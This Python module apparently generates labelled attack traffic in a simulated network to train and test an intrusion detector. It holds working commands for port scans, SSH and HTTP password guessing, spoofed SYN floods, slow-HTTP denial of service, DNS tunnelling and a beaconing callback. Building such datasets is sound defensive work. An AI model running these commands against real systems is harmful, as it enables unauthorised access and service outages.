"""The attacks of one site: tools, attackers, targets, times; each leaves a Window from which the labels are written.

Train and test differ in tools, rates, options and order. An attacker never has normal traffic with its targets.
"""
import random
import subprocess
import sys
import threading
import time
from dataclasses import dataclass

import people
from network import HERE, batch_in, inside
from servers import WORK

SLACK_BEFORE, SLACK_AFTER = 1.5, 5.0  # the header of NetFlow v9 tells the time in whole seconds
HELD_OPEN = 2.0  # seconds
FORGED_SLACK = 3.0  # exporters' clocks are rough, and nobody else bears a forged address
QUIET = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}


@dataclass
class Window:
    """What the label rules must say of one attack: class, terms, and the time in which its flows start."""
    label: str
    terms: str
    begin: float
    end: float
    side_effects: str = ""  # terms of traffic that the attack causes and that is nobody's class


class Attacker:
    def __init__(self, site, begin, duration):
        self.site, self.begin, self.duration = site, begin, duration
        self.end = begin + duration
        self.windows, self.lock, self.failures = [], threading.Lock(), []
        self.train = site.run == "train"

    def run(self, host, *command, timeout):
        """A tool in the namespace of a host; killed when its time is over, which many attacks need."""
        timeout = max(1.0, min(timeout, self.end - time.time()))
        process = subprocess.Popen(inside(host, *command), cwd=WORK, **QUIET)
        try:
            return process.wait(timeout)
        except subprocess.TimeoutExpired:
            process.terminate()
            try:
                process.wait(3)
            except subprocess.TimeoutExpired:
                process.kill()
        return None

    def record(self, label, attacker, target, terms, began, side_effects=True):
        pair = f"host {attacker} and host {target}"
        window = Window(label, f"{pair} and {terms}", began - SLACK_BEFORE, time.time() + SLACK_AFTER,
                        pair if side_effects else "")
        with self.lock:
            self.windows.append(window)

    def words(self, name, count):
        """A list of wrong passwords, its own for every attack."""
        rng = self.site.random(name)
        path = WORK / f"words-{name}"
        path.write_text("".join(f"{rng.choice(('summer', 'admin', 'welcome', 'qwerty'))}{rng.randrange(10000)}\n"
                                for _ in range(count)))
        return path

    def users(self, name, *names):
        path = WORK / f"users-{name}"
        path.write_text("".join(f"{one}\n" for one in names))
        return path

    # --- scans -----------------------------------------------------------------------------------------------------

    def port_scan(self, host, target, first, count, flavour):
        v6 = flavour == "connect6"
        source, goal = (self.site.v6(host), self.site.v6(target)) if v6 else (self.site.v4(host), self.site.v4(target))
        ports, began = f"{first}-{first + count - 1}", time.time()
        nmap = ["nmap", "-n", "-Pn", "-p", ports, "--max-retries", "1"]
        nping = ["nping", "--quiet", "-c", "1", "-p", ports]
        command = {
            "syn": [*nmap, "-sS", "-T4", goal],
            "connect": [*nmap, "-sT", "-T4", "--max-rate", "60", goal],
            "connect6": [*nmap, "-6", "-sT", "-T5", goal],
            "syn-slowish": [*nmap, "-sS", "--min-rate", "12", "--max-rate", "18", goal],
            "nping": [*nping, "--tcp", "--flags", "syn", "--rate", "20", goal],
            "nping-connect": [*nping, "--tcp-connect", "--rate", "40", goal],
            "masscan": ["masscan", goal, "-p", ports, "--rate", "35", "--wait", "3", "-e", "eth0"],
            "masscan-fast": ["masscan", goal, "-p", ports, "--rate", "90", "--wait", "3", "-e", "eth0"],
            "masscan-brisk": ["masscan", goal, "-p", ports, "--rate", "55", "--wait", "3", "-e", "eth0"],
            "masscan-calm": ["masscan", goal, "-p", ports, "--rate", "24", "--wait", "3", "-e", "eth0"],
            "masscan-slow": ["masscan", goal, "-p", ports, "--rate", "12", "--wait", "3", "-e", "eth0"],
        }[flavour]
        self.run(host, *command, timeout=60)
        self.record("port-scan", source, goal, f"proto tcp and port {ports}", began)

    def udp_scan(self, host, target, first, count, flavour):
        goal, began = self.site.v4(target), time.time()
        ports = f"{first}-{first + count - 1}"
        command = {
            "nmap": ["nmap", "-n", "-Pn", "-sU", "-p", ports, "--max-retries", "0", "--min-rate", "20", goal],
            "nmap-fast": ["nmap", "-n", "-Pn", "-sU", "-p", ports, "--max-retries", "0", "--min-rate", "90",
                          "--data-length", "12", goal],
            "nping": ["nping", "--quiet", "--udp", "-c", "1", "-p", ports, "--rate", "35", "--data-length", "8", goal],
            "masscan": ["masscan", goal, "-pU:" + ports, "--rate", "25", "--wait", "2", "-e", "eth0"],
            "hping3": ["hping3", "-2", "-q", "-p", f"++{first}", "-i", "u60000", "-c", count, goal],
        }[flavour]
        self.run(host, *command, timeout=60)
        self.record("udp-scan", self.site.v4(host), goal, f"proto udp and port {ports}", began)

    def slow_scan(self, host, target, first, gap, flavour):
        """One probe every few seconds from shortly after the beginning to the end."""
        goal, began, left = self.site.v4(target), time.time(), self.end - time.time() - 8
        count = int(left / gap)
        nping = ["nping", "--quiet", "-c", "1", "-p", f"{first}-{first + count}", "--delay", f"{gap}s"]
        command = {
            "nmap-syn": ["nmap", "-n", "-Pn", "-sS", "-p", f"{first}-{first + count}", "--max-retries", "0",
                         "--scan-delay", f"{gap}s", "--max-scan-delay", f"{gap}s", goal],
            "nmap-connect": ["nmap", "-n", "-Pn", "-sT", "-p", f"{first}-{first + count}", "--max-retries", "0",
                             "--scan-delay", f"{gap}s", "--max-scan-delay", f"{gap}s", goal],
            "nping-syn": [*nping, "--tcp", "--flags", "syn", goal],
            "nping-connect": [*nping, "--tcp-connect", goal],
            "hping3": ["hping3", "-S", "-q", "-p", f"++{first}", "-i", int(gap), "-c", count, goal],
        }[flavour]
        self.run(host, *command, timeout=left)
        self.record("slow-scan", self.site.v4(host), goal, f"proto tcp and port {first}-{first + count}", began)

    # --- guessing --------------------------------------------------------------------------------------------------

    def ssh_guessing(self, host, target, count, flavour):
        v6 = flavour.endswith("6")
        source, goal = (self.site.v6(host), self.site.v6(target)) if v6 else (self.site.v4(host), self.site.v4(target))
        words, began = self.words(f"ssh-{host}-{flavour}", count), time.time()
        options = " ".join(people.SSH_OPTIONS + people.PASSWORD_ONLY)
        loop = f"while read word; do sshpass -p \"$word\" ssh {options} carol@{goal} true; done < {words}"
        command = {
            "hydra6": ["hydra", "-I", "-q", "-l", "alice", "-P", words, "-t", "12", "-6", f"ssh://[{goal}]"],
            "medusa": ["medusa", "-h", goal, "-u", "carol", "-P", words, "-M", "ssh", "-t", "3"],
            "medusa-slow": ["medusa", "-h", goal, "-u", "dave", "-P", words, "-M", "ssh", "-t", "1"],
            "loop": ["sh", "-c", loop],
            "ncrack": ["ncrack", "--user", "bob", "-P", words, "-g", "cl=1,CL=3,at=1,cd=300ms", f"ssh://{goal}"],
            "loop6": ["sh", "-c", loop],
        }[flavour]
        self.run(host, *command, timeout=110)
        self.record("ssh-guessing", source, goal, "port 22", began)

    def http_guessing(self, host, target, port, count, flavour):
        goal = self.site.v4(target)
        words, began = self.words(f"http-{host}-{flavour}", count), time.time()
        page = f"http://{goal}:{port}/private/"
        curl = "curl -q -s -o /dev/null --max-time 5 -u"
        names = self.users("http", "erin")
        nmap = ["nmap", "-n", "-Pn", "-sT", "-p", port, "--script", "+http-brute"]
        brute = f"http-brute.path=/private/,userdb={names},passdb={words},unpwdb.timelimit=0"
        command = {
            "loop": ["sh", "-c", f"while read word; do {curl} \"erin:$word\" {page}; sleep 0.4; done < {words}"],
            "burst": ["xargs", "-a", words, "-P", "3", "-I{}", *curl.split(), "frank:{}", "-H", "Connection: close", page],
            "rush": ["xargs", "-a", words, "-P", "12", "-I{}", *curl.split(), "judy:{}", page],
            "python": [sys.executable, HERE / "guess_client.py", page, words, "6"],
            "python-challenge": [sys.executable, HERE / "guess_client.py", page, words, "1", "challenge"],
            "python-challenge-rush": [sys.executable, HERE / "guess_client.py", page, words, "4", "challenge"],
            "challenge": ["sh", "-c", f"while read word; do {curl} \"heidi:$word\" --anyauth {page}; sleep 0.2; done < {words}"],
            "challenge-burst": ["xargs", "-a", words, "-P", "4", "-I{}", *curl.split(), "ivan:{}", "--anyauth", page],
            "wget": ["sh", "-c", f"while read word; do wget -q -t 1 -T 5 -O /dev/null --user grace --password \"$word\" {page}; "
                     f"done < {words}"],
            "nmap": [*nmap, "--script-args", f"{brute},brute.threads=2,brute.delay=1", goal],
            "nmap-fast": [*nmap, "--script-args", f"{brute},brute.threads=5", goal],
            "ncrack-slow": ["ncrack", "--user", "carol", "-P", words, "-g", "cl=1,CL=2,at=1,cd=600ms,path=/private/",
                            f"http://{goal}:{port}"],
            "hydra": ["hydra", "-I", "-q", "-l", "alice", "-P", words, "-t", "4", "-s", port, goal, "http-get", "/private/"],
            "hydra-slow": ["hydra", "-I", "-q", "-l", "bob", "-P", words, "-t", "1", "-s", port, goal, "http-get",
                           "/private/"],
            "hydra-rush": ["hydra", "-I", "-q", "-l", "kate", "-P", words, "-t", "16", "-s", port, goal, "http-get",
                           "/private/"],
            "medusa": ["medusa", "-h", goal, "-u", "carol", "-P", words, "-M", "http", "-m", "DIR:private/", "-n", port,
                       "-t", "3"],
            "ncrack": ["ncrack", "--user", "bob", "-P", words, "-g", "cl=1,CL=4,at=1,cd=200ms,path=/private/",
                       f"http://{goal}:{port}"],
        }[flavour]
        self.run(host, *command, timeout=110)
        self.record("http-guessing", self.site.v4(host), goal, f"port {port}", began)

    # --- exhaustion ------------------------------------------------------------------------------------------------

    def syn_flood(self, host, target, port, count, flavour):
        goal, began = self.site.v4(target), time.time()
        pause = {"forged": "u8000", "forged-fast": "u3000", "forged-slow": "u25000", "own": "u12000", "own-fast": "u5000",
                 "own-slow": "u40000"}[flavour]
        forged = ["--rand-source"] if flavour.startswith("forged") else []
        shape = (random.choice((0, 24)), random.choice((64, 1024, 8192, 29200))) if self.train else (0, 512)
        options = ["-s", random.randrange(2000, 50000), "-d", shape[0], "-w", shape[1]]
        self.run(host, "hping3", "-S", "-q", "-p", port, "-i", pause, "-c", count, *options, *forged, goal, timeout=30)
        if forged:
            terms = (f"host {goal} and port {port} and proto tcp and not src {self.site.inside_v4} "
                     f"and not src {self.site.outside_v4}")
            window = Window("syn-flood", terms, began - FORGED_SLACK, time.time() + SLACK_AFTER)
            with self.lock:
                self.windows.append(window)
        else:
            self.record("syn-flood", self.site.v4(host), goal, f"port {port} and proto tcp", began)

    def slow_http(self, host, target, port, count, flavour):
        goal, began = self.site.v4(target), time.time()
        tool = ["slowhttptest", "-c", count, "-r", "6", "-p", "3"]
        command = {
            "headers": [*tool, "-H", "-i", "9", "-x", "12", "-l", "75", "-u", f"http://{goal}:{port}/"],
            "headers-long": [*tool, "-H", "-i", "20", "-x", "30", "-l", "50", "-u", f"http://{goal}:{port}/"],
            "headers-quick": ["slowhttptest", "-c", count, "-r", "3", "-p", "3", "-H", "-i", "5", "-x", "16", "-l", "65",
                              "-u", f"http://{goal}:{port}/"],
            "body": [*tool, "-B", "-i", "12", "-x", "10", "-l", "80", "-s", "4096", "-u", f"http://{goal}:{port}/upload"],
            "read": [*tool, "-X", "-w", "10", "-y", "20", "-n", "5", "-z", "32", "-k", "3", "-l", "60",
                     "-u", f"http://{goal}:{port}/o/1m"],
            "own": [sys.executable, HERE / "slow_client.py", goal, port, count, "8", "45"],
        }[flavour]
        self.run(host, *command, timeout=120)
        # slowhttptest also asks every second whether the server still answers; only what is held open is slow.
        self.record("slow-http", self.site.v4(host), goal, f"port {port} and duration > {HELD_OPEN}", began)

    # --- hidden channels -------------------------------------------------------------------------------------------

    def dns_tunnel(self, host, flavour):
        """Short tunnel sessions, one after the other; every session is one or more flows to the tunnel's name server."""
        rng, began = self.site.random(f"tunnel-{host}"), time.time()
        server, session = {"iodine": ("tun", self.iodine_session), "dns2tcp": ("cdn", self.dns2tcp_session)}[flavour]
        goal = self.site.v4(server)
        while time.time() < self.end - 12:
            session(host, goal, rng)
            time.sleep(rng.uniform(0.5, 5))
        self.record("dns-tunnel", self.site.v4(host), goal, "proto udp and port 53", began)

    def iodine_session(self, host, goal, rng):
        kind = rng.choice(("NULL", "TXT", "CNAME") if self.train else ("SRV", "MX", "TXT"))
        command = ("iodine", "-f", "-r", "-L0", "-m", rng.randint(150, 700), "-T", kind, "-d", f"t{host}", "-P", "secret", goal,
                   "t.example.test")
        tunnel = threading.Thread(target=self.run, args=(host, *command), kwargs={"timeout": rng.uniform(5, 10)})
        tunnel.start()
        time.sleep(2.5)
        self.run(host, "curl", "-q", "-s", "-o", "/dev/null", "--max-time", "6", "http://172.29.0.1/o/4k", timeout=7)
        tunnel.join()

    def dns2tcp_session(self, host, goal, rng):
        """The server is started for each session, too: left alone it spins on a session that went away."""
        server = subprocess.Popen(inside("cdn", "dns2tcpd", "-F", "-f", WORK / "dns2tcpd.conf"), **QUIET)
        time.sleep(0.3)
        port = rng.randint(20000, 60000)
        command = ("dns2tcpc", "-z", "d.example.test", "-k", "secret", "-r", "web", "-l", port,
                   "-T", rng.choice(("TXT", "KEY")), goal)
        tunnel = threading.Thread(target=self.run, args=(host, *command), kwargs={"timeout": rng.uniform(3, 9)})
        tunnel.start()
        time.sleep(0.8)
        path = rng.choice(("1k", "4k", "15k"))
        self.run(host, "curl", "-q", "-s", "-o", "/dev/null", "--max-time", "5", f"http://127.0.0.1:{port}/o/{path}", timeout=6)
        tunnel.join()
        server.kill()
        server.wait()

    def beacon(self, host, port, period, jitter, flavour):
        """Calls home at regular times: same pair, same port, few bytes."""
        rng, began = self.site.random(f"beacon-{host}"), time.time()
        goal = self.site.v4("cdn")
        scheme = "https" if port in (443, 8443) else "http"
        url = f"{scheme}://{goal}:{port}/task"
        due = time.time()
        while due < self.end - 3:
            time.sleep(max(0, due - time.time()))
            data = "x" * rng.randint(20, 120)
            command = {
                "curl": ["curl", "-q", "-s", "-k", "-o", "/dev/null", "--max-time", "6", "-H", f"X-Id: {data}", url],
                "wget": ["wget", "-q", "-t", "1", "-T", "6", "--no-check-certificate", "-O", "/dev/null", f"{url}?id={data}"],
                "python": [sys.executable, "-c", "import ssl,sys,urllib.request as r;"
                           "r.urlopen(sys.argv[1],timeout=6,context=ssl._create_unverified_context()).read()", f"{url}?i={data}"],
            }[flavour]
            self.run(host, *command, timeout=7)
            due += period * rng.uniform(1 - jitter, 1 + jitter)
        self.record("beacon", self.site.v4(host), goal, f"port {port}", began)


def tunnel_servers(site):
    """The far end of the iodine tunnels, a web server behind it, and what dns2tcpd will need on another host."""
    batch_in("tun", ["tuntap add dev dns0 mode tun"])
    subprocess.Popen(inside("tun", "iodined", "-f", "-c", "-d", "dns0", "-P", "secret", "-l", site.v4("tun"),
                            "172.29.0.1/24", "t.example.test"), **QUIET)
    conf = WORK / "dns2tcpd.conf"
    conf.write_text(f"listen = {site.v4('cdn')}\nport = 53\nuser = nobody\nchroot = {WORK}/empty\n"
                    f"domain = d.example.test\nkey = secret\nresources = web:{site.v4('cdn')}:80\n")
